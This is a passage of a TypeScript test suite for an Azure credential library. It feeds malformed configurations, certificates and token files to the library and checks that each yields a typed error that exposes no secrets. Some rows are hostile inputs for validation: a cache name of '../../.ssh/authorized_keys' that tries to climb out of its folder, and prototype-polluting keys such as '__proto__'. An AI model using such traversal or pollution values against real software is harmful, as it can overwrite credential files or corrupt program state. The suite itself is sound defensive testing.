/**
 * Bad input, at scale (issue #7): one hand-written table of realistic mistakes — malformed configurations,
 * authority hosts, tenant ids, scopes, environment values and certificate files — each row asserting the exact
 * error class, its `code`, its config `path` (or, for an unavailable credential, what the message names), and
 * that no secret value appears in the message, the stack, `util.inspect(error, { depth: 10 })`,
 * `JSON.stringify(error)` or anywhere along the `cause` chain. Only typed errors; never a crash, a hang, an
 * untyped throw or a silently accepted mistake.
 *
 * The 80 JSON fixtures of test/fixtures/bad-configurations/ are rows too. Certificates are made at test time
 * (node:crypto, node-forge, openssl). Nothing leaves the machine: service-principal credentials point at a
 * closed loopback port, managed identity at another, and PATH holds no `az`/`azd` — every row fails before
 * any request or developer tool runs. A "good input stays accepted" block guards the fixes against overreach.
 *
 * Rows that need a token endpoint to fail at (a workload identity token file that is not a token, a client
 * assertion callback that throws) point at the built-in emulator on loopback instead; they still fail before any
 * token request is sent.
 */
import { execFileSync, spawn } from "node:child_process";
import { createPublicKey, generateKeyPairSync, randomBytes, X509Certificate } from "node:crypto";
import { mkdirSync, readdirSync, readFileSync, symlinkSync } from "node:fs";
import { join } from "node:path";
import { inspect } from "node:util";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import {
  AzureCliCredential,
  AzureDeveloperCliCredential,
  AzurePipelinesCredential,
  CERTIFICATE_ERROR_CODES,
  CertificateError,
  ChainedTokenCredential,
  ClientAssertionCredential,
  ClientCertificateCredential,
  ClientSecretCredential,
  CONFIGURATION_ERROR_CODES,
  ConfigurationError,
  createCredential,
  CredentialUnavailableError,
  DefaultAzureCredential,
  describeCredential,
  DeviceCodeCredential,
  EnvironmentCredential,
  ERROR_CODES,
  getSection,
  loadCertificateFile,
  loadCertificatePem,
  loadCertificatePfx,
  loadConfiguration,
  ManagedIdentityCredential,
  validateCredentialSection,
  WorkloadIdentityCredential,
  type ConfigurationSection,
  type CreateCredentialOptions,
  type ErrorCode,
} from "../../src/index.js";
import { startEmulator, type Emulator } from "../../src/emulator/index.js";
import {
  createEcCertificate,
  createPfx,
  createTestCertificate,
  encryptedPkcs1,
  encryptedPkcs8,
  tempDir,
  writeFile,
  type TestCertificate,
} from "../helpers/certificates.js";
import { closedLoopbackPort, isolateEnvironment } from "../helpers/environment.js";

// ------------------------------------------------------------------------------------------------ values

const T = "72f988bf-86f1-41af-91ab-2d7cd011db47";
const T2 = "3c1e5b7a-9d2f-4e8a-b6c4-0f1a2b3c4d5e";
const C = "0d4a2b1e-6a8f-4f0e-9b4e-3c9a1f2d7e11";
const SECRET = "Tbl~ClientSecret-7Hq2.not-for-logs";
const PFX_PASSWORD = "Tbl-Pfx-Pa55word-9xQ";
const WRONG_PASSWORD = "Tbl-Pfx-Pa55word-9xq";
const PEM_PASSWORD = "Tbl-Pem-Passphrase-4kZ";
const SYSTEM_TOKEN = "eyJhbGciOiJub25lIn0.tbl-system-access-token.c2ln";
const USER_PASSWORD = "Tbl-User-Passw0rd-2jW";
const REDIS_PASSWORD = "Tbl-Redis-Pa55-7mV";
const CACHE_KEY = "Tbl-Cache-Key-too-short-3nB";
const AUTHORITY_PASSWORD = "Tbl-Authority-Pa55-8pT";
const NUMERIC_PASSWORD = 918273645;

/** Every secret this file hands to the library: none may appear in any error of any row. */
const SECRETS = [SECRET, PFX_PASSWORD, WRONG_PASSWORD, PEM_PASSWORD, SYSTEM_TOKEN, USER_PASSWORD, REDIS_PASSWORD, CACHE_KEY, AUTHORITY_PASSWORD, String(NUMERIC_PASSWORD)];

// ------------------------------------------------------------------------------------------------ fixtures

interface Fixtures {
  dir: string;
  port: number;
  cert: TestCertificate;
  other: TestCertificate;
  expired: TestCertificate;
  future: TestCertificate;
  pfx: Buffer;
  pfx3des: Buffer;
  pfxRc2: Buffer;
  pfxNoPassword: Buffer;
  pfxNoKeys: Buffer;
  pfxNoCerts: Buffer;
  pfxEc: Buffer;
  pfxExpired: Buffer;
  ec: { keyPem: string; certPem: string };
  ed25519: { keyPem: string; certPem: string };
  p7b: string;
  csr: string;
  file: Record<string, string>;
  storeDir: string;
  thumbprint: string;
  otherThumbprint: string;
  /** Lines of private keys handed to the library: key material that must never show. */
  keyLines: string[];
}

const fx = {} as Fixtures;
/** Token endpoint on loopback for the rows that must get as far as reading a client assertion. */
let emu: Emulator;

function openssl(args: string[]): Buffer {
  return execFileSync("openssl", args, { stdio: ["ignore", "pipe", "pipe"], maxBuffer: 1 << 20 });
}

function thumbprintOf(certPem: string): string {
  return new X509Certificate(certPem).fingerprint.replaceAll(":", "");
}

/**
 * Runs `fn`, with a child process that opens the FIFO for writing after `ms` and closes it: should `fn` block
 * reading the FIFO (the bug fixed before this suite), it then gets end-of-file and fails the row's time limit
 * instead of hanging the whole run.
 */
function unblockingFifo<T>(fifo: string, fn: () => T, ms = 2000): T {
  const writer = spawn(process.execPath, ["-e", `setTimeout(() => require("fs").writeFileSync(${JSON.stringify(fifo)}, ""), ${ms})`], { stdio: "ignore" });
  try {
    return fn();
  } finally {
    writer.kill("SIGKILL");
  }
}

/** A PEM block with characters that are not base64 in the middle of its body. */
function corruptBody(pem: string): string {
  const lines = pem.split("\n");
  lines[3] = `${lines[3].slice(0, 10)}!!not*base64!!${lines[3].slice(25)}`;
  return lines.join("\n");
}

function buildFixtures(): void {
  fx.dir = tempDir("acf-bad-input-");
  const d = fx.dir;
  fx.cert = createTestCertificate({ commonName: "table-app" });
  fx.other = createTestCertificate({ commonName: "table-other" });
  fx.expired = createTestCertificate({ commonName: "table-expired", notBefore: new Date(Date.now() - 400 * 86_400_000), notAfter: new Date(Date.now() - 2 * 86_400_000) });
  fx.future = createTestCertificate({ commonName: "table-future", notBefore: new Date(Date.now() + 7 * 86_400_000), notAfter: new Date(Date.now() + 400 * 86_400_000) });
  fx.pfx = createPfx(fx.cert, PFX_PASSWORD, "aes");
  fx.pfx3des = createPfx(fx.cert, PFX_PASSWORD, "legacy-3des");
  fx.pfxRc2 = createPfx(fx.cert, PFX_PASSWORD, "legacy-rc2");
  fx.pfxNoPassword = createPfx(fx.cert, "");
  fx.pfxExpired = createPfx(fx.expired, PFX_PASSWORD, "legacy-3des");
  const keyPath = writeFile(d, "key.pem", fx.cert.keyPem);
  const certPath = writeFile(d, "cert.pem", fx.cert.certPem);
  fx.pfxNoKeys = openssl(["pkcs12", "-export", "-nokeys", "-in", certPath, "-passout", `pass:${PFX_PASSWORD}`]);
  fx.pfxNoCerts = openssl(["pkcs12", "-export", "-nocerts", "-inkey", keyPath, "-passout", `pass:${PFX_PASSWORD}`]);
  fx.p7b = openssl(["crl2pkcs7", "-nocrl", "-certfile", certPath]).toString();
  fx.csr = openssl(["req", "-new", "-key", keyPath, "-subj", "/CN=table-app"]).toString();
  const ec = createEcCertificate();
  fx.ec = { keyPem: ec.keyPem, certPem: ec.certPem };
  fx.pfxEc = ec.pfx(PFX_PASSWORD);
  const edKeyPem = generateKeyPairSync("ed25519").privateKey.export({ type: "pkcs8", format: "pem" }).toString();
  fx.ed25519 = { keyPem: edKeyPem, certPem: openssl(["req", "-x509", "-key", writeFile(d, "ed.pem", edKeyPem), "-subj", "/CN=table-ed", "-days", "2"]).toString() };

  const random = randomBytes(700);
  random[0] = 0x7f;
  const derLike = randomBytes(700);
  derLike[0] = 0x30;
  fx.file = {
    random: writeFile(d, "random.pfx", random),
    derLike: writeFile(d, "der-like.pfx", derLike),
    empty: writeFile(d, "empty.pem", ""),
    blank: writeFile(d, "blank.pem", "\n  \n\t\n"),
    pfxAt1: writeFile(d, "t1.pfx", fx.pfx.subarray(0, 1)),
    pfxAt64: writeFile(d, "t64.pfx", fx.pfx.subarray(0, 64)),
    pfxHalf: writeFile(d, "half.pfx", fx.pfx.subarray(0, Math.floor(fx.pfx.length / 2))),
    pfxLastByte: writeFile(d, "last.pfx", fx.pfx.subarray(0, fx.pfx.length - 1)),
    pfx: writeFile(d, "app.pfx", fx.pfx),
    pfxAsCer: writeFile(d, "app.cer", fx.pfx),
    pfxNoPassword: writeFile(d, "nopass.pfx", fx.pfxNoPassword),
    pfxExpired: writeFile(d, "expired.pfx", fx.pfxExpired),
    derCert: writeFile(d, "public.cer", new X509Certificate(fx.cert.certPem).raw),
    certOnly: writeFile(d, "cert-only.pem", fx.cert.certPem),
    encryptedPem: writeFile(d, "encrypted.pem", encryptedPkcs8(fx.cert, PEM_PASSWORD) + fx.cert.certPem),
    ecPem: writeFile(d, "ec.pem", fx.ec.keyPem + fx.ec.certPem),
    garbageKeyPem: writeFile(d, "garbage-in-key.pem", corruptBody(fx.cert.keyPem) + fx.cert.certPem),
    utf16Pem: writeFile(d, "utf16.pem", Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(fx.cert.keyPem + fx.cert.certPem, "utf16le")])),
    bomGarbage: writeFile(d, "bom.pem", Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), Buffer.from("subject=/CN=table-app\nissuer=/CN=table-app\n")])),
    big: writeFile(d, "big.pem", Buffer.alloc(1024 * 1024 + 1, 0x41)),
    bigToken: writeFile(d, "azure-identity-token", `eyJ${"A".repeat(64 * 1024)}`),
    notADirectory: join(writeFile(d, "plain-file", "x"), "app.pem"),
    missing: join(d, "does-not-exist.pfx"),
    dangling: join(d, "dangling.pem"),
    loopA: join(d, "loop-a.pem"),
    fifo: join(d, "fifo.pem"),
    subdir: join(d, "certs"),
  };
  symlinkSync(join(d, "gone.pem"), fx.file.dangling);
  symlinkSync(join(d, "loop-b.pem"), fx.file.loopA);
  symlinkSync(fx.file.loopA, join(d, "loop-b.pem"));
  execFileSync("mkfifo", [fx.file.fifo]);
  mkdirSync(fx.file.subdir);

  fx.thumbprint = thumbprintOf(fx.cert.certPem);
  fx.otherThumbprint = thumbprintOf(fx.other.certPem);
  fx.storeDir = join(d, "store");
  mkdirSync(fx.storeDir);
  writeFile(fx.storeDir, `${"AB".repeat(20)}.pfx`, randomBytes(300));
  writeFile(fx.storeDir, `${fx.otherThumbprint}.pfx`, fx.pfxNoPassword); // holds table-app, not table-other
  writeFile(fx.storeDir, `${fx.thumbprint}.pfx`, fx.pfx); // .NET stores keep PFX files without a password

  fx.keyLines = [fx.cert, fx.other, fx.expired, fx.future].map((c) => c.keyPem.split("\n")[2]);
}

// ------------------------------------------------------------------------------------------------ rows

type ErrorClass = typeof ConfigurationError | typeof CertificateError | typeof CredentialUnavailableError;

interface Row {
  /** The mistake, in the user's words. */
  name: string;
  /** Makes the mistake; must throw (constructors) or reject (`getToken`, with `async`). */
  run: () => unknown;
  error: ErrorClass;
  code: ErrorCode;
  /** The exact `path` of a ConfigurationError / CertificateError. */
  path?: string;
  /** For errors without a path: what the message must name. */
  mentions?: readonly string[];
  /** Secrets of this row besides {@link SECRETS} (the JSON fixtures' own). */
  secrets?: readonly string[];
  /** `getToken`: must return a rejected promise, never throw synchronously. */
  async?: boolean;
  /** Must fail within this many milliseconds (pipes and devices must not be read). */
  maxMs?: number;
}

const classOf = (code: ErrorCode): ErrorClass => (code.startsWith("ERR_CERT_") ? CertificateError : code === "ERR_CREDENTIAL_UNAVAILABLE" ? CredentialUnavailableError : ConfigurationError);

/** A configuration section through `createCredential`, with no environment variables. */
function config(
  name: string,
  section: ConfigurationSection | (() => ConfigurationSection),
  code: ErrorCode,
  path: string,
  options: CreateCredentialOptions | (() => CreateCredentialOptions) = {},
): Row {
  return {
    name,
    run: () => createCredential(typeof section === "function" ? section() : section, { env: {}, ...(typeof options === "function" ? options() : options) }),
    error: classOf(code),
    code,
    path,
  };
}

/** Environment variables through `loadConfiguration({ env, files: [] })`, then `createCredential`. */
function fromEnvironment(name: string, env: Record<string, string> | (() => Record<string, string>), code: ErrorCode, path: string): Row {
  return {
    name,
    run: () => {
      const variables = typeof env === "function" ? env() : env;
      const configuration = loadConfiguration({ env: variables, files: [] });
      return createCredential(getSection(configuration, "Azure") ?? {}, { env: variables, namedCredentials: getSection(configuration, "AzureCredentials") });
    },
    error: classOf(code),
    code,
    path,
  };
}

const sp = (extra: ConfigurationSection = {}): ConfigurationSection => ({ credential: "clientsecret", tenantId: T, clientId: C, clientSecret: SECRET, ...extra });
const withCertificate = (extra: ConfigurationSection): ConfigurationSection => ({ tenantId: T, clientId: C, ...extra });
const loopback = () => ({ authorityHost: `https://127.0.0.1:${fx.port}`, disableInstanceDiscovery: true, retryOptions: { maxRetries: 0 }, requestTimeoutMs: 1000 });
const secretCredential = () => new ClientSecretCredential(T, C, SECRET, loopback());
const scope = "https://storage.azure.com/.default";
/** The emulator's token endpoint: only for rows that fail while the client assertion is read, before any token request. */
const atEmulator = () => ({ authorityHost: emu.authorityHost, disableInstanceDiscovery: true, caCertificates: emu.caCertificatePem, retryOptions: { maxRetries: 0 }, requestTimeoutMs: 2000 });
/** A workload identity whose AZURE_FEDERATED_TOKEN_FILE is `tokenFile`: getToken must be refused as unavailable. */
const tokenFileRow = (name: string, tokenFile: () => string, mentions: string[], maxMs?: number): Row => ({
  name,
  run: () => new WorkloadIdentityCredential({ ...atEmulator(), env: { AZURE_TENANT_ID: emu.tenantId, AZURE_CLIENT_ID: C, AZURE_FEDERATED_TOKEN_FILE: tokenFile() } }).getToken(scope),
  error: CredentialUnavailableError,
  code: "ERR_CREDENTIAL_UNAVAILABLE",
  mentions,
  async: true,
  maxMs,
});
/** A constructor call that must throw a ConfigurationError at `path`. */
const constructorRow = (name: string, run: () => unknown, code: ErrorCode, path: string): Row => ({ name, run, error: classOf(code), code, path });

function scopeRow(name: string, credential: () => { getToken(scopes: string | string[]): Promise<unknown> }, scopes: unknown): Row {
  return { name, run: () => credential().getToken(scopes as string[]), error: ConfigurationError, code: "ERR_CONFIG_INVALID_VALUE", path: "scopes", async: true };
}

function certificate(name: string, run: () => unknown, code: ErrorCode, path: string, maxMs?: number): Row {
  return { name, run, error: CertificateError, code, path, maxMs };
}

// ----- the 80 JSON fixtures -----

interface JsonFixture {
  section: ConfigurationSection;
  code: ErrorCode;
  path: string;
  secrets: string[];
  named?: ConfigurationSection;
  env?: Record<string, string>;
}

const FIXTURES = "test/fixtures/bad-configurations";
const fixtureRows: Row[] = readdirSync(FIXTURES)
  .filter((f) => f.endsWith(".json"))
  .sort()
  .map((file) => {
    const f = JSON.parse(readFileSync(join(FIXTURES, file), "utf8")) as JsonFixture;
    return {
      name: `${file.replace(/\.json$/, "")} (fixture)`,
      run: () => createCredential(f.section, { namedCredentials: f.named, env: f.env ?? {} }),
      error: classOf(f.code),
      code: f.code,
      path: f.path,
      secrets: f.secrets,
    };
  });

// ----- configuration -----

const configurationRows: Row[] = [
  // wrong types
  config("tenantId written as a number", sp({ tenantId: 12345 }), "ERR_CONFIG_INVALID_VALUE", "Azure:tenantId"),
  config("clientId given as an array of ids", sp({ clientId: [C, T] }), "ERR_CONFIG_INVALID_VALUE", "Azure:clientId"),
  config("tenantId given as an object { id }", sp({ tenantId: { id: T } }), "ERR_CONFIG_INVALID_VALUE", "Azure:tenantId"),
  config("credential is a number", { credential: 1 }, "ERR_CONFIG_INVALID_VALUE", "Azure:credential"),
  config("credential lists several kinds in an array", { credential: ["azurecli", "managedidentity"] }, "ERR_CONFIG_INVALID_VALUE", "Azure:credential"),
  config("credential is true", { credential: true }, "ERR_CONFIG_INVALID_VALUE", "Azure:credential"),
  config("credential is a section { type }", { credential: { type: "azurecli" } }, "ERR_CONFIG_INVALID_VALUE", "Azure:credential"),
  config("clientCertificatePassword written as a number", withCertificate({ clientCertificatePath: "/secrets/app.pfx", clientCertificatePassword: NUMERIC_PASSWORD }), "ERR_CONFIG_INVALID_VALUE", "Azure:clientCertificatePassword"),
  config("systemAccessToken given as a section", { credential: "azurepipelines", tenantId: T, clientId: C, serviceConnectionId: "sc", systemAccessToken: { value: SYSTEM_TOKEN } }, "ERR_CONFIG_INVALID_VALUE", "Azure:systemAccessToken"),
  config("excludeAzureCliCredential is 'yes'", { credential: "default", excludeAzureCliCredential: "yes" }, "ERR_CONFIG_INVALID_VALUE", "Azure:excludeAzureCliCredential"),
  config("disableInstanceDiscovery is the number 2", sp({ disableInstanceDiscovery: 2 }), "ERR_CONFIG_INVALID_VALUE", "Azure:disableInstanceDiscovery"),
  config("requestTimeoutMs is '30s'", sp({ requestTimeoutMs: "30s" }), "ERR_CONFIG_INVALID_VALUE", "Azure:requestTimeoutMs"),
  config("requestTimeoutMs is 1.5", sp({ requestTimeoutMs: 1.5 }), "ERR_CONFIG_INVALID_VALUE", "Azure:requestTimeoutMs"),
  config("requestTimeoutMs beyond what a timer holds (3e9 ms fires at once)", sp({ requestTimeoutMs: 3_000_000_000 }), "ERR_CONFIG_INVALID_VALUE", "Azure:requestTimeoutMs"),
  config("processTimeoutInMs '99999999999' from a variable", { credential: "azurecli", processTimeoutInMs: "99999999999" }, "ERR_CONFIG_INVALID_VALUE", "Azure:processTimeoutInMs"),
  config("processTimeoutInMs is -1 ('no limit')", { credential: "azuredevelopercli", processTimeoutInMs: -1 }, "ERR_CONFIG_INVALID_VALUE", "Azure:processTimeoutInMs"),
  config("sources is one section instead of a list", { credential: "chained", sources: { credential: "azurecli" } }, "ERR_CONFIG_INVALID_VALUE", "Azure:sources"),
  config("sources is a list of lists", { credential: "chained", sources: [["azurecli"]] }, "ERR_CONFIG_INVALID_VALUE", "Azure:sources"),
  config("tokenCachePersistenceOptions: true instead of a section", { credential: "devicecode", tokenCachePersistenceOptions: true }, "ERR_CONFIG_INVALID_VALUE", "Azure:tokenCachePersistenceOptions"),
  config("tokenCachePersistenceOptions.enabled is 'yes'", { credential: "devicecode", tokenCachePersistenceOptions: { enabled: "yes" } }, "ERR_CONFIG_INVALID_VALUE", "Azure:tokenCachePersistenceOptions:enabled"),
  config("clientCertificateKeyVault is the certificate's URL", withCertificate({ clientCertificateKeyVault: "https://v.vault.azure.net/certificates/app" }), "ERR_CONFIG_INVALID_VALUE", "Azure:clientCertificateKeyVault"),
  config("additionallyAllowedTenants holds a number", sp({ additionallyAllowedTenants: [T2, 42] }), "ERR_CONFIG_INVALID_VALUE", "Azure:additionallyAllowedTenants"),
  config("azureCloud is a number", { credential: "managedidentityasfederatedidentity", tenantId: T, clientId: C, azureCloud: 1 }, "ERR_CONFIG_INVALID_VALUE", "Azure:azureCloud"),

  // unknown credential kinds, including names on Object.prototype
  config("credential 'constructor'", { credential: "constructor" }, "ERR_CONFIG_UNKNOWN_CREDENTIAL", "Azure:credential"),
  config("credential '__proto__'", { credential: "__proto__" }, "ERR_CONFIG_UNKNOWN_CREDENTIAL", "Azure:credential"),
  config("credential 'toString'", { credential: "toString" }, "ERR_CONFIG_UNKNOWN_CREDENTIAL", "Azure:credential"),
  config("credential 'hasOwnProperty'", { credential: "hasOwnProperty" }, "ERR_CONFIG_UNKNOWN_CREDENTIAL", "Azure:credential"),
  config("credential 'valueOf'", sp({ credential: "valueOf" }), "ERR_CONFIG_UNKNOWN_CREDENTIAL", "Azure:credential"),
  config("credential 'Credential' (the suffix alone)", { credential: "Credential" }, "ERR_CONFIG_UNKNOWN_CREDENTIAL", "Azure:credential"),
  config("credential of blanks", { credential: "   " }, "ERR_CONFIG_UNKNOWN_CREDENTIAL", "Azure:credential"),
  config("credential 'az cli'", { credential: "az cli" }, "ERR_CONFIG_UNKNOWN_CREDENTIAL", "Azure:credential"),
  config("credential 'AzureCli;ManagedIdentity' (a list in one string)", { credential: "AzureCli;ManagedIdentity" }, "ERR_CONFIG_UNKNOWN_CREDENTIAL", "Azure:credential"),
  config("credential 'serviceprincipal'", sp({ credential: "serviceprincipal" }), "ERR_CONFIG_UNKNOWN_CREDENTIAL", "Azure:credential"),

  // unknown keys in odd places
  config("a '__proto__' key (from JSON)", () => JSON.parse('{ "credential": "azurecli", "__proto__": { "credential": "clientsecret" } }') as ConfigurationSection, "ERR_CONFIG_UNKNOWN_KEY", "Azure:__proto__"),
  config("a 'constructor' key", { credential: "azurecli", constructor: "x" } as unknown as ConfigurationSection, "ERR_CONFIG_UNKNOWN_KEY", "Azure:constructor"),
  config("a key with a trailing blank, 'credential '", { "credential ": "azurecli" }, "ERR_CONFIG_UNKNOWN_KEY", "Azure:credential "),
  config("tokenCache 'uri' instead of 'url' (holding a password)", sp({ tokenCache: { type: "redis", uri: `redis://:${REDIS_PASSWORD}@cache.internal:6380` } }), "ERR_CONFIG_UNKNOWN_KEY", "Azure:tokenCache:uri"),
  config("clientCertificateKeyVault 'vaultUrl' (the SDK's spelling)", withCertificate({ clientCertificateKeyVault: { vaultUrl: "https://v.vault.azure.net", name: "app" } }), "ERR_CONFIG_UNKNOWN_KEY", "Azure:clientCertificateKeyVault:vaultUrl"),
  config("a typo inside the Key Vault credential section", withCertificate({ clientCertificateKeyVault: { vaultUri: "https://v.vault.azure.net", name: "app", credential: { credential: "managedidentity", managedIdentityClinetId: C } } }), "ERR_CONFIG_UNKNOWN_KEY", "Azure:clientCertificateKeyVault:credential:managedIdentityClinetId"),

  // conflicting keys
  config("clientcertificate with both a file and Key Vault", withCertificate({ credential: "clientcertificate", clientCertificatePath: "/secrets/app.pem", clientCertificateKeyVault: { vaultUri: "https://v.vault.azure.net", name: "app" } }), "ERR_CONFIG_CONFLICT", "Azure:clientCertificateKeyVault"),
  config("a store thumbprint and a file", withCertificate({ clientCertificate: "AB".repeat(20), clientCertificatePath: "/secrets/app.pem" }), "ERR_CONFIG_CONFLICT", "Azure:clientCertificatePath"),
  config("managedidentity with clientId and managedIdentityResourceId", { credential: "managedidentity", clientId: C, managedIdentityResourceId: "/subscriptions/s/resourceGroups/g/providers/Microsoft.ManagedIdentity/userAssignedIdentities/u" }, "ERR_CONFIG_CONFLICT", "Azure:managedIdentityResourceId"),
  config("a lone clientId beside managedIdentityObjectId (inferred managed identity)", { clientId: C, managedIdentityObjectId: T2 }, "ERR_CONFIG_CONFLICT", "Azure:managedIdentityObjectId"),
  config("a secret and a Key Vault certificate, kind inferred", withCertificate({ clientSecret: SECRET, clientCertificateKeyVault: { vaultUri: "https://v.vault.azure.net", name: "app" } }), "ERR_CONFIG_CONFLICT", "Azure:clientSecret"),
  config("'enabled' and 'Enabled' in one section", { credential: "devicecode", tokenCachePersistenceOptions: { enabled: true, Enabled: false } }, "ERR_CONFIG_CONFLICT", "Azure:tokenCachePersistenceOptions:Enabled"),

  // missing required keys, per kind
  config("clientcertificate without tenantId", { credential: "clientcertificate", clientId: C, clientCertificatePath: "/secrets/app.pem" }, "ERR_CONFIG_MISSING_VALUE", "Azure:tenantId"),
  config("clientcertificate without clientId", { credential: "clientcertificate", tenantId: T, clientCertificatePath: "/secrets/app.pem" }, "ERR_CONFIG_MISSING_VALUE", "Azure:clientId"),
  config("azurepipelines without systemAccessToken or SYSTEM_ACCESSTOKEN", { credential: "azurepipelines", tenantId: T, clientId: C, serviceConnectionId: "sc" }, "ERR_CONFIG_MISSING_VALUE", "Azure:systemAccessToken"),
  config("azurepipelines without tenantId", { credential: "azurepipelines", clientId: C, serviceConnectionId: "sc", systemAccessToken: SYSTEM_TOKEN }, "ERR_CONFIG_MISSING_VALUE", "Azure:tenantId"),
  config("workloadidentity without tenantId or AZURE_TENANT_ID", { credential: "workloadidentity", clientId: C, tokenFilePath: "/var/run/secrets/azure/tokens/azure-identity-token" }, "ERR_CONFIG_MISSING_VALUE", "Azure:tenantId"),
  config("workloadidentity without clientId or AZURE_CLIENT_ID", { credential: "workloadidentity", tenantId: T, tokenFilePath: "/var/run/secrets/azure/tokens/azure-identity-token" }, "ERR_CONFIG_MISSING_VALUE", "Azure:clientId"),
  config("clientassertion without tokenFilePath", { credential: "clientassertion", tenantId: T, clientId: C }, "ERR_CONFIG_MISSING_VALUE", "Azure:tokenFilePath"),
  config("managedidentityasfederatedidentity without clientId", { credential: "managedidentityasfederatedidentity", tenantId: T }, "ERR_CONFIG_MISSING_VALUE", "Azure:clientId"),
  config("clientSecret set to an empty string", sp({ clientSecret: "" }), "ERR_CONFIG_MISSING_VALUE", "Azure:clientSecret"),
  config("clientSecret of blanks", sp({ clientSecret: "   " }), "ERR_CONFIG_MISSING_VALUE", "Azure:clientSecret"),
  config("clientId of blanks", sp({ clientId: " \t" }), "ERR_CONFIG_MISSING_VALUE", "Azure:clientId"),
  config("a blank clientSecret beside tenant and client, kind inferred", { tenantId: T, clientId: C, clientSecret: " \t " }, "ERR_CONFIG_MISSING_VALUE", "Azure:clientSecret"),
  config("clientCertificateKeyVault without vaultUri", withCertificate({ clientCertificateKeyVault: { name: "app" } }), "ERR_CONFIG_MISSING_VALUE", "Azure:clientCertificateKeyVault:vaultUri"),

  // named credentials
  config("credentialName with no AzureCredentials section", { credentialName: "backend" }, "ERR_CONFIG_UNKNOWN_NAME", "Azure:credentialName"),
  config("credentialName 'constructor'", { credentialName: "constructor" }, "ERR_CONFIG_UNKNOWN_NAME", "Azure:credentialName", { namedCredentials: { backend: { credential: "azurecli" } } }),
  config("credentialName '__proto__'", { credentialName: "__proto__" }, "ERR_CONFIG_UNKNOWN_NAME", "Azure:credentialName", { namedCredentials: { backend: { credential: "azurecli" } } }),
  config("credentialName 'toString'", { credentialName: "toString" }, "ERR_CONFIG_UNKNOWN_NAME", "Azure:credentialName", { namedCredentials: {} }),
  config("a named credential that names itself", { credentialName: "a" }, "ERR_CONFIG_CYCLE", "AzureCredentials:a:credentialName", { namedCredentials: { a: { credentialName: "a" } } }),
  config("three named credentials in a ring", { credentialName: "a" }, "ERR_CONFIG_CYCLE", "AzureCredentials:c:credentialName", { namedCredentials: { a: { credentialName: "b" }, b: { credentialName: "c" }, c: { credentialName: "A" } } }),
  config("a named credential that is a string, not a section", { credentialName: "backend" }, "ERR_CONFIG_INVALID_VALUE", "AzureCredentials:backend", { namedCredentials: { backend: "azurecli" } }),
  config("credentialName beside a clientSecret (which would be ignored)", { credentialName: "backend", clientSecret: SECRET }, "ERR_CONFIG_CONFLICT", "Azure:clientSecret", { namedCredentials: { backend: { credential: "azurecli" } } }),
  config("credentialName is a number", { credentialName: 42 }, "ERR_CONFIG_INVALID_VALUE", "Azure:credentialName"),
  config("a named credential missing its clientId", { credentialName: "backend" }, "ERR_CONFIG_MISSING_VALUE", "AzureCredentials:backend:clientId", { namedCredentials: { backend: { credential: "clientsecret", tenantId: T, clientSecret: SECRET } } }),

  // chained sources
  config("chained with an empty list of sources", { credential: "chained", sources: [] }, "ERR_CONFIG_MISSING_VALUE", "Azure:sources"),
  config("a chain member naming an unknown credential", { credential: "chained", sources: [{ credential: "azurecli" }, { credentialName: "backend" }] }, "ERR_CONFIG_UNKNOWN_NAME", "Azure:sources:1:credentialName", { namedCredentials: { frontend: { credential: "azurecli" } } }),
  config("a named chain whose member names the chain", { credentialName: "ring" }, "ERR_CONFIG_CYCLE", "AzureCredentials:ring:sources:0:credentialName", { namedCredentials: { ring: { credential: "chained", sources: [{ credentialName: "ring" }] } } }),
  config("sources without credential: chained", { sources: [{ credential: "azurecli" }, { credential: "managedidentity" }] }, "ERR_CONFIG_MISSING_VALUE", "Azure:credential"),
  config("a chain member that is an empty chain", { credential: "chained", sources: [{ credential: "chained" }] }, "ERR_CONFIG_MISSING_VALUE", "Azure:sources:0:sources"),
  config("a chain member without its clientSecret", { credential: "chained", sources: [{ credential: "azurecli" }, { credential: "clientsecret", tenantId: T, clientId: C }] }, "ERR_CONFIG_MISSING_VALUE", "Azure:sources:1:clientSecret"),
  config("a chain member with a tenant name instead of an id", { credential: "chained", sources: [sp({ tenantId: "Contoso Ltd" })] }, "ERR_CONFIG_TENANT_ID", "Azure:sources:0:tenantId"),

  // tokenCache and tokenCachePersistenceOptions
  config("tokenCache: 'redis' instead of a section", sp({ tokenCache: "redis" }), "ERR_CONFIG_INVALID_VALUE", "Azure:tokenCache"),
  config("tokenCache with a url but no type", sp({ tokenCache: { url: `redis://:${REDIS_PASSWORD}@cache.internal:6380` } }), "ERR_CONFIG_MISSING_VALUE", "Azure:tokenCache:type"),
  config("tokenCache type redis without url", sp({ tokenCache: { type: "redis" } }), "ERR_CONFIG_MISSING_VALUE", "Azure:tokenCache:url"),
  config("tokenCache redis url with http://", sp({ tokenCache: { type: "redis", url: `http://:${REDIS_PASSWORD}@cache.internal:6380` } }), "ERR_CONFIG_INVALID_VALUE", "Azure:tokenCache:url"),
  config("tokenCache encryptionKey that is not 32 bytes", sp({ tokenCache: { type: "redis", url: "redis://127.0.0.1:1", encryptionKey: CACHE_KEY } }), "ERR_CONFIG_INVALID_VALUE", "Azure:tokenCache:encryptionKey"),
  config("tokenCache persistent without a key on a host without a keyring", sp({ tokenCache: { type: "persistent" } }), "ERR_CONFIG_MISSING_VALUE", "Azure:tokenCache"),
  config("tokenCachePersistenceOptions enabled without a key", sp({ tokenCachePersistenceOptions: { enabled: true } }), "ERR_CONFIG_MISSING_VALUE", "Azure:tokenCachePersistenceOptions"),
  config("persistent cache name climbing out of its folder", sp({ tokenCachePersistenceOptions: { enabled: true, name: "../../.ssh/authorized_keys", unsafeAllowUnencryptedStorage: true } }), "ERR_CONFIG_INVALID_VALUE", "Azure:tokenCachePersistenceOptions:name"),
  config("persistent cache name that is an absolute path", { credential: "devicecode", tokenCachePersistenceOptions: { enabled: true, name: "/var/cache/app", unsafeAllowUnencryptedStorage: true } }, "ERR_CONFIG_INVALID_VALUE", "Azure:tokenCachePersistenceOptions:name"),

  // clientCertificateKeyVault
  config("Key Vault over http", withCertificate({ clientCertificateKeyVault: { vaultUri: "http://v.vault.azure.net", name: "app" } }), "ERR_CONFIG_INVALID_VALUE", "Azure:clientCertificateKeyVault:vaultUri"),
  config("Key Vault URI of another service", withCertificate({ clientCertificateKeyVault: { vaultUri: "https://myvault.azure.com", name: "app" } }), "ERR_CONFIG_INVALID_VALUE", "Azure:clientCertificateKeyVault:vaultUri"),
